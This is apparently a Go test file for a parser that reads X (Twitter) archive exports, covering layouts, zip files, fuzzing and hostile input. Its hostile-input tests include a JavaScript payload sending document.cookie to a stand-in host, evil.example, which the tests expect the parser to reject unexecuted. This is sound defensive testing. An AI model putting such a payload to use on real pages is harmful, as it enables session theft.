package archive

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"
	"unicode/utf8"
)

// xmReadAll reads fsys with r and returns the items, failing on an error.
func xmReadAll(t *testing.T, r Reader, fsys fs.FS) []Item {
	t.Helper()
	var got []Item
	if err := r.Read(context.Background(), fsys, func(it Item) error { got = append(got, it); return nil }); err != nil {
		t.Fatalf("%s Read: %v", r.Name(), err)
	}
	return got
}

// xmReadErr reads fsys with r and returns the error, failing when there is none.
func xmReadErr(t *testing.T, r Reader, fsys fs.FS) error {
	t.Helper()
	err := r.Read(context.Background(), fsys, func(Item) error { return nil })
	if err == nil {
		t.Fatalf("%s Read = nil error", r.Name())
	}
	return err
}

// xmErrSays checks that err mentions every one of want.
func xmErrSays(t *testing.T, err error, want ...string) {
	t.Helper()
	if err == nil {
		t.Fatalf("error = nil, want one saying %q", want)
	}
	for _, w := range want {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("error %q does not say %q", err, w)
		}
	}
}

// xmZipDir zips the files under dir, each under prefix, into t.TempDir()
// and returns the zip's path.
func xmZipDir(t *testing.T, dir, prefix string) string {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, err := filepath.Rel(dir, p)
		if err != nil {
			return err
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		w, err := zw.Create(prefix + filepath.ToSlash(rel))
		if err != nil {
			return err
		}
		_, err = w.Write(data)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	name := filepath.Join(t.TempDir(), "export.zip")
	if err := os.WriteFile(name, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return name
}

// xWant are the items of testdata/x, under prefix.
func xWant(prefix string) []Item {
	tweets := prefix + "data/tweets.js"
	return []Item{
		{Platform: "x", Kind: "post", Date: time.Date(2018, 10, 10, 20, 19, 24, 0, time.UTC),
			URL:    "https://x.com/i/web/status/1700000000000000001",
			Text:   "Night shift done & dusted. Coffee > sleep https://t.co/Ab12Cd34Ef",
			Media:  []string{prefix + "data/tweets_media/1700000000000000001-abc.jpg"},
			Source: Source{File: tweets, Position: 0}},
		{Platform: "x", Kind: "comment", Date: time.Date(2018, 10, 11, 7, 5, 0, 0, time.UTC),
			URL:    "https://x.com/i/web/status/1700000000000000002",
			Text:   "@wardsister_jo Thanks! See you on Ward 9 tomorrow <3",
			Source: Source{File: tweets, Position: 1}},
		{Platform: "x", Kind: "post", Date: time.Date(2026, 2, 21, 23, 59, 59, 0, time.UTC),
			URL:    "https://x.com/i/web/status/1700000000000000003",
			Text:   "Rota’s out 🎉\nSwapping Tuesday if anyone wants it",
			Source: Source{File: tweets, Position: 2}},
		{Platform: "x", Kind: "post", Date: time.Date(2023, 10, 13, 14, 58, 50, 0, time.UTC),
			Text:   "A long one about handover:\n\nWrite it down & say it out loud >> assume they know.",
			Source: Source{File: prefix + "data/note-tweet.js", Position: 0}},
	}
}

func TestXFixture(t *testing.T) {
	fsys := os.DirFS("testdata/x")
	r, err := Detect(fsys)
	if err != nil || r.Name() != "x" {
		t.Fatalf("Detect = %v, %v; want x", r, err)
	}
	compareItems(t, xmReadAll(t, r, fsys), xWant(""))
}

func TestXZip(t *testing.T) {
	for _, prefix := range []string{"", "twitter-2026-02-22-abc/"} {
		t.Run("prefix "+prefix, func(t *testing.T) {
			fsys, closer, err := Open(xmZipDir(t, "testdata/x", prefix))
			if err != nil {
				t.Fatal(err)
			}
			defer closer.Close()
			r, err := Detect(fsys)
			if err != nil || r.Name() != "x" {
				t.Fatalf("Detect = %v, %v; want x", r, err)
			}
			compareItems(t, xmReadAll(t, r, fsys), xWant(prefix))
		})
	}
}

func TestXDetect(t *testing.T) {
	const js = "window.YTD.tweets.part0 = []"
	tests := []struct {
		name  string
		files []string
		want  bool
	}{
		{"data/tweets.js", []string{"data/tweets.js"}, true},
		{"data/tweet.js", []string{"data/tweet.js"}, true},
		{"tweets.js at the root", []string{"tweets.js"}, true},
		{"tweet.js at the root", []string{"tweet.js"}, true},
		{"parts only", []string{"data/tweets-part1.js"}, true},
		{"one folder down", []string{"twitter-2024/data/tweets.js"}, true},
		{"only notes", []string{"data/note-tweet.js"}, false},
		{"only other files", []string{"data/like.js", "data/tweet-headers.js", "data/deleted-tweets.js"}, false},
		{"a folder named tweets.js", []string{"data/tweets.js/x"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fsys := fstest.MapFS{}
			for _, f := range tt.files {
				fsys[f] = &fstest.MapFile{Data: []byte(js)}
			}
			if got := (xReader{}).Detect(fsys); got != tt.want {
				t.Errorf("Detect = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestXLayouts(t *testing.T) {
	date := time.Date(2019, 1, 2, 3, 4, 5, 0, time.UTC)
	const created = `"created_at": "Wed Jan 02 03:04:05 +0000 2019"`
	tests := []struct {
		name  string
		files map[string]string
		want  []Item
	}{
		{
			name: "old layout: tweet.js, elements without the tweet wrapper, numbers as ids",
			files: map[string]string{
				"tweet.js": "window.YTD.tweet.part0 = [ {\"id\": 42, \"full_text\": \"old &quot;style&quot;\", " + created + "},\n" +
					"{\"id_str\": \"43\", \"in_reply_to_status_id\": 41, \"full_text\": \"a reply\"} ]",
				"tweets_media/42-a.png":  "",
				"tweets_media/42-b.mp4":  "",
				"tweets_media/420-c.png": "",
				"tweets_media/x-42.png":  "",
			},
			want: []Item{
				{Platform: "x", Kind: "post", Date: date, URL: "https://x.com/i/web/status/42", Text: `old "style"`,
					Media: []string{"tweets_media/42-a.png", "tweets_media/42-b.mp4"}, Source: Source{File: "tweet.js"}},
				{Platform: "x", Kind: "comment", URL: "https://x.com/i/web/status/43", Text: "a reply",
					Source: Source{File: "tweet.js", Position: 1}},
			},
		},
		{
			name: "parts in number order, tweets before tweet, BOM, CRLF and a trailing semicolon",
			files: map[string]string{
				"data/tweets.js":           "\ufeffwindow.YTD.tweets.part0 = [{\"tweet\": {\"id_str\": \"1\", \"full_text\": \"p0\"}}];\r\n",
				"data/tweets-part2.js":     "window.YTD.tweets.part2 =\r\n[{\"tweet\": {\"id_str\": \"3\", \"full_text\": \"p2\"}}]",
				"data/tweets-part10.js":    "window.YTD.tweets.part10 = [{\"tweet\": {\"id_str\": \"5\", \"full_text\": \"p10\"}}]",
				"data/tweets-part1.js":     "window.YTD.tweets.part1 = [{\"tweet\": {\"id_str\": \"2\", \"full_text\": \"p1\"}}]",
				"data/tweet.js":            "window.YTD.tweet.part0 = [{\"tweet\": {\"id_str\": \"4\", \"full_text\": \"old\"}}]",
				"data/note-tweet.js":       "window.YTD.note_tweet.part0 = [{\"noteTweet\": {\"core\": {\"text\": \"n0\"}}}]",
				"data/note-tweet-part1.js": "window.YTD.note_tweet.part1 = [{\"noteTweet\": {\"core\": {\"text\": \"n1 &amp; raw\"}}}]",
			},
			want: []Item{
				{Platform: "x", Kind: "post", URL: "https://x.com/i/web/status/1", Text: "p0", Source: Source{File: "data/tweets.js"}},
				{Platform: "x", Kind: "post", URL: "https://x.com/i/web/status/2", Text: "p1", Source: Source{File: "data/tweets-part1.js"}},
				{Platform: "x", Kind: "post", URL: "https://x.com/i/web/status/3", Text: "p2", Source: Source{File: "data/tweets-part2.js"}},
				{Platform: "x", Kind: "post", URL: "https://x.com/i/web/status/5", Text: "p10", Source: Source{File: "data/tweets-part10.js"}},
				{Platform: "x", Kind: "post", URL: "https://x.com/i/web/status/4", Text: "old", Source: Source{File: "data/tweet.js"}},
				{Platform: "x", Kind: "post", Text: "n0", Source: Source{File: "data/note-tweet.js"}},
				{Platform: "x", Kind: "post", Text: "n1 &amp; raw", Source: Source{File: "data/note-tweet-part1.js"}},
			},
		},
		{
			name: "empty texts, nulls and unknown fields are skipped; a media-only tweet is kept",
			files: map[string]string{
				"data/tweets.js": `window.YTD.tweets.part0 = [
					{"tweet": {"id_str": "1", "full_text": "   "}},
					{"tweet": {"id_str": "2", "full_text": "", "in_reply_to_status_id_str": null, "entities": {"x": [1, {"y": null}]}}},
					{"tweet": null},
					{"tweet": {"id_str": "3", "full_text": ""}},
					{"tweet": {"id_str": "not a number", "full_text": "no link for a junk id"}}
				]`,
				"data/note-tweet.js":        `window.YTD.note_tweet.part0 = [{"noteTweet": null}, {"other": 1}, {"noteTweet": {"core": {"text": ""}}}]`,
				"data/tweets_media/3-k.jpg": "",
				"data/tweets_media/3-k":     "", // a folder, below
			},
			want: []Item{
				{Platform: "x", Kind: "post", URL: "https://x.com/i/web/status/3", Media: []string{"data/tweets_media/3-k.jpg"},
					Source: Source{File: "data/tweets.js", Position: 3}},
				{Platform: "x", Kind: "post", Text: "no link for a junk id", Source: Source{File: "data/tweets.js", Position: 4}},
			},
		},
		{
			name: "an empty archive",
			files: map[string]string{
				"data/tweets.js": "window.YTD.tweets.part0 = [ ]",
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fsys := fstest.MapFS{}
			for name, data := range tt.files {
				fsys[name] = &fstest.MapFile{Data: []byte(data)}
			}
			if _, ok := tt.files["data/tweets_media/3-k"]; ok {
				delete(fsys, "data/tweets_media/3-k")
				fsys["data/tweets_media/3-k/inner.jpg"] = &fstest.MapFile{}
			}
			compareItems(t, xmReadAll(t, xReader{}, fsys), tt.want)
		})
	}
}

func TestXHostile(t *testing.T) {
	const tweets = "data/tweets.js"
	const notes = "data/note-tweet.js"
	ok := `window.YTD.tweets.part0 = [{"tweet": {"id_str": "1", "full_text": "hi"}}]`
	tests := []struct {
		name, file, data string
		want             []string // in the error
	}{
		{"no '='", tweets, `[{"tweet": {"full_text": "hi"}}]`,
			[]string{"x: ", tweets, "no \"window.YTD.<name>.partN = \"", "not a file of an X archive"}},
		{"empty", tweets, "", []string{tweets, "the file is empty"}},
		{"blank", tweets, " \n\t", []string{tweets, "the file is empty"}},
		{"JavaScript payload", tweets, "window.YTD.tweets.part0 = (function(){ fetch('https://evil.example/'+document.cookie); return [] })()",
			[]string{tweets, "line 1, column 27", `after the '=' comes "(function(){"`, "never run as JavaScript"}},
		{"code before the assignment", tweets, "alert(1); window.YTD.tweets.part0 = []",
			[]string{tweets, `the file starts with "alert(1); window.YTD.tweets.part0"`}},
		{"a long odd prefix is cut", tweets, strings.Repeat("a", 100) + " = []", []string{tweets, `"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa…"`}},
		{"no part number", tweets, "window.YTD.tweets = []", []string{tweets, "want \"window.YTD.<name>.partN = [\""}},
		{"'==' ", tweets, "window.YTD.tweets.part0 == []", []string{tweets, `after the '=' comes "= []"`}},
		{"nothing after the '='", tweets, "window.YTD.tweets.part0 =  ", []string{tweets, "ends after the '='"}},
		{"an object after the '='", tweets, `window.YTD.tweets.part0 = {"tweet": {}}`, []string{tweets, `after the '=' comes "{\"tweet\": {}"`}},
		{"truncated", tweets, `window.YTD.tweets.part0 = [{"tweet": {"id_str": "1", "full_text": "hi"}}, {"tweet": {"full_te`,
			[]string{tweets, "position 1", "truncated"}},
		{"truncated after an element", tweets, `window.YTD.tweets.part0 = [{"tweet": {"id_str": "1", "full_text": "hi"}}`,
			[]string{tweets, "truncated"}},
		{"truncated after the '['", tweets, `window.YTD.tweets.part0 = [`, []string{tweets, "truncated"}},
		{"element not an object", tweets, "window.YTD.tweets.part0 = [\n  {\"tweet\": {\"full_text\": \"a\"}},\n  \"just a string\"\n]",
			[]string{tweets, "position 1, line 3", "the element is a string, want an object"}},
		{"element a number", tweets, "window.YTD.tweets.part0 = [7]", []string{tweets, "position 0", "the element is a number, want an object"}},
		{"tweet not an object", tweets, `window.YTD.tweets.part0 = [{"tweet": [1]}]`, []string{tweets, "position 0", "tweet is an array, want an object"}},
		{"full_text a number", tweets, `window.YTD.tweets.part0 = [{"tweet": {"full_text": 5}}]`,
			[]string{tweets, "position 0", "tweet.full_text is a number, want a string"}},
		{"id_str an object", tweets, `window.YTD.tweets.part0 = [{"tweet": {"id_str": {"x": 1}}}]`,
			[]string{tweets, "position 0", "id_str is an object, want a string"}},
		{"bad date", tweets, `window.YTD.tweets.part0 = [{"tweet": {"full_text": "a"}}, {"tweet": {"created_at": "2018-10-10", "full_text": "b"}}]`,
			[]string{tweets, "position 1", `created_at "2018-10-10" is not a date`}},
		{"syntax error", tweets, "window.YTD.tweets.part0 = [\n{\"tweet\": {\"full_text\": \"a\",,}}]",
			[]string{tweets, "position 0, line 2", "not valid JSON"}},
		{"missing comma", tweets, `window.YTD.tweets.part0 = [{"tweet": {}} {"tweet": {}}]`, []string{tweets, "not valid JSON"}},
		{"code after the array", tweets, "window.YTD.tweets.part0 = [];\nfetch('https://evil.example/')",
			[]string{tweets, "line 2, column 1", "unexpected data after the array"}},
		{"a second array", tweets, "window.YTD.tweets.part0 = [] []", []string{tweets, "unexpected data after the array"}},
		{"binary", tweets, "\x00\xff\xfe=\x01", []string{tweets, "want \"window.YTD.<name>.partN = [\""}},
		{"note not an object", notes, `window.YTD.note_tweet.part0 = [{"noteTweet": "long text"}]`,
			[]string{notes, "position 0", "noteTweet is a string, want an object"}},
		{"note date", notes, `window.YTD.note_tweet.part0 = [{"noteTweet": {"createdAt": "yesterday", "core": {"text": "t"}}}]`,
			[]string{notes, "position 0", `noteTweet.createdAt "yesterday" is not a date`}},
		{"note truncated", notes, `window.YTD.note_tweet.part0 = [{"noteTweet": {"core": {"text": "t`, []string{notes, "truncated"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fsys := fstest.MapFS{tweets: {Data: []byte(ok)}}
			fsys[tt.file] = &fstest.MapFile{Data: []byte(tt.data)}
			err := xmReadErr(t, xReader{}, fsys)
			t.Log(err)
			xmErrSays(t, err, tt.want...)
		})
	}
}

func TestXNoTweets(t *testing.T) {
	err := xmReadErr(t, xReader{}, fstest.MapFS{"data/like.js": {Data: []byte("window.YTD.like.part0 = []")}})
	xmErrSays(t, err, "x: no data/tweets.js or data/tweet.js")
}

func TestXStops(t *testing.T) {
	fsys := os.DirFS("testdata/x")
	stop := errors.New("stop")
	n := 0
	err := (xReader{}).Read(context.Background(), fsys, func(Item) error { n++; return stop })
	if err != stop || n != 1 {
		t.Errorf("Read = %v after %d items, want the yield error as it is after 1", err, n)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	err = (xReader{}).Read(ctx, fsys, func(Item) error { return nil })
	if !errors.Is(err, context.Canceled) {
		t.Errorf("Read(cancelled) = %v", err)
	}
}

func FuzzXRead(f *testing.F) {
	for _, name := range []string{"testdata/x/data/tweets.js", "testdata/x/data/note-tweet.js"} {
		data, err := os.ReadFile(name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	for _, s := range []string{
		``, `=`, `window.YTD.tweets.part0 = []`, `window.YTD.tweets.part0 = [7]`,
		`window.YTD.tweets.part0 = [{"tweet": {"id_str": 1, "full_text": "&amp;&#0;&#xD800;\u00e9"}}]`,
		`window.YTD.tweets.part0 = [{"tweet": {"created_at": "Wed Oct 10 20:19:24 +0000 2018"}}]`,
		`window.YTD.tweets.part0 = [[[[`, "window.YTD.x.part0 = [\"\xff\"]", `window.YTD.tweets.part0 = (function(){})()`,
	} {
		f.Add([]byte(s))
	}
	const tweets = "data/tweets.js"
	f.Fuzz(func(t *testing.T, data []byte) {
		fsys := fstest.MapFS{
			tweets:                      {Data: data},
			"data/note-tweet.js":        {Data: data},
			"data/tweets_media/1-a.jpg": {},
		}
		err := (xReader{}).Read(context.Background(), fsys, func(it Item) error {
			if it.Platform != "x" || (it.Kind != "post" && it.Kind != "comment") {
				t.Fatalf("item %+v", it)
			}
			if it.Source.File != tweets && it.Source.File != "data/note-tweet.js" {
				t.Fatalf("item from %q", it.Source.File)
			}
			if !utf8.ValidString(it.Text) || !utf8.ValidString(it.URL) {
				t.Fatalf("invalid UTF-8 in %+v", it)
			}
			if it.URL != "" && !strings.HasPrefix(it.URL, "https://x.com/i/web/status/") {
				t.Fatalf("URL %q", it.URL)
			}
			if _, err := it.Date.MarshalJSON(); err != nil {
				t.Fatalf("date %v: %v", it.Date, err)
			}
			return nil
		})
		if err != nil && !strings.HasPrefix(err.Error(), "x: ") {
			t.Fatalf("error without the reader's name: %v", err)
		}
		if err != nil && !utf8.ValidString(err.Error()) {
			t.Fatalf("invalid UTF-8 in the error %q", err)
		}
	})
}

func TestXNoteJoinsItsTweet(t *testing.T) {
	long := "A long one about handover tonight: write it down and say it out loud, never assume the next shift knows what you know. Thread 🧵"
	fsys := fstest.MapFS{
		"data/tweets.js": {Data: []byte(`window.YTD.tweets.part0 = [
 {"tweet": {"id_str": "17", "created_at": "Fri Oct 13 14:58:50 +0000 2023", "full_text": "A long one about handover tonight: write it down and say it out loud, never assume the next… https://t.co/AbC123"}},
 {"tweet": {"id_str": "18", "created_at": "Fri Oct 13 15:00:00 +0000 2023", "full_text": "short and sweet"}}
]`)},
		"data/note-tweet.js": {Data: []byte(`window.YTD.note_tweet.part0 = [
 {"noteTweet": {"noteTweetId": "99", "createdAt": "2023-10-13T14:58:50.000Z", "core": {"text": "` + long + `"}}},
 {"noteTweet": {"noteTweetId": "98", "createdAt": "2023-10-12T09:00:00.000Z", "core": {"text": "A note whose tweet was deleted, kept as a post of its own"}}}
]`)},
	}
	var got []Item
	if err := (xReader{}).Read(context.Background(), fsys, func(it Item) error { got = append(got, it); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 {
		t.Fatalf("%d items, want 3 (the long post once): %+v", len(got), got)
	}
	if got[0].Text != long || got[0].URL != "https://x.com/i/web/status/17" || got[0].Source.File != "data/tweets.js" {
		t.Errorf("the cut tweet did not take its note's text: %+v", got[0])
	}
	if got[1].Text != "short and sweet" {
		t.Errorf("second item %+v", got[1])
	}
	if got[2].Source.File != "data/note-tweet.js" || got[2].Source.Position != 1 || got[2].URL != "" {
		t.Errorf("the unmatched note %+v", got[2])
	}
}

func TestXCutShort(t *testing.T) {
	for in, want := range map[string]string{
		"never assume the next… https://t.co/AbC123": "never assume the next",
		"cut mid-wo… https://t.co/x":                 "cut mid-wo",
		"ends with dots... http://t.co/x":            "ends with dots",
		"plain text":                                 "plain text",
		"  spaced \n out  ":                          "spaced out",
		"https://t.co/only":                          "",
	} {
		if got := xCutShort(in); got != want {
			t.Errorf("xCutShort(%q) = %q, want %q", in, got, want)
		}
	}
}
